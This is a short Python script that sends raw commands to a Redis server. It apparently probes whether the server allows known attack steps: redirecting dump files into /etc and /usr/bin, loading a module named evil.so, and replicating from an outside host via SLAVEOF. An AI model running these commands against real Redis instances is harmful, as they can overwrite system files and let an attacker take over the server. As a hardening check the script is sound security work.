import socket


def redis(*commands):
    said = []
    with socket.create_connection(("redis", 6379), 10) as line:
        for command in commands:
            parts = [part.encode() for part in command.split(" ")]
            line.sendall(b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(part), part) for part in parts))
            try:
                said.append(line.recv(4096).decode("utf-8", "replace").strip())
            except OSError as error:
                said.append(str(error))
    return said


tries = ["CONFIG SET dir /etc", "CONFIG SET dir /usr/bin", "CONFIG SET dbfilename x.so", "MODULE LOAD /work/evil.so", "SLAVEOF 198.51.100.7 6379",
         "DEBUG SEGFAULT-NOT", "ACL LOAD", "SAVE"]
for attempt, answer in zip(tries, redis(*tries)):
    print(attempt, "->", answer)
print(redis("SLAVEOF NO ONE", "SET a 1"))
